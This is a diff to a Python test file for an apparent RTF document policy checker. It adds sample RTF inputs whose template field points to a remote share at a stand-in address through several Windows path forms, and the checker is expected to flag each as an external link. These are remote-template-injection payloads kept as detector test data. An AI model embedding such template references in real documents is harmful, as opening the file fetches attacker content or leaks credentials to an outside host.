@@ -149,6 +149,9 @@ def test_sample_clean_specification(oletools_data: Path, policy: Policy) -> None
     [
         (rb"{\rtf1\ansi{\*\template http://203.0.113.5/payload.dot} Hello\par}", "EXTERNAL_LINK"),
         (rb"{\rtf1\ansi{\*\template \\\\203.0.113.5\share\x.dot} Hello\par}", "EXTERNAL_LINK"),
+        # a share in the other forms Windows takes: mixed separators, its NT namespace
+        (rb"{\rtf1\ansi{\*\template /\\203.0.113.5\\s\\x.dot} Hello\par}", "EXTERNAL_LINK"),
+        (rb"{\rtf1{\*\template \\??\\UNC\\203.0.113.5\\s\\x.dot} Hi\par}", "EXTERNAL_LINK"),
         (
             rb'{\rtf1{\field{\*\fldinst INCLUDEPICTURE "http://x/y.png"}{\fldrslt x}}}',
             "EXTERNAL_LINK",
@@ -171,6 +174,7 @@ def test_escaped_dde_and_remote_fetches(policy: Policy, rtf: bytes, code: str) -
     "rtf",
     [
         rb"{\rtf1\ansi{\*\template C:\\Templates\\Normal.dot} Hello\par}",
+        rb"{\rtf1\ansi{\*\template \\\\?\\C:\\Templates\\Normal.dot} Hello\par}",
         rb'{\rtf1{\field{\*\fldinst HYPERLINK "http://example.com"}{\fldrslt x}}}',
         rb"{\rtf1{\field{\*\fldinst PAGE}{\fldrslt 1}} caf\'e9 \u233? done}",
     ],
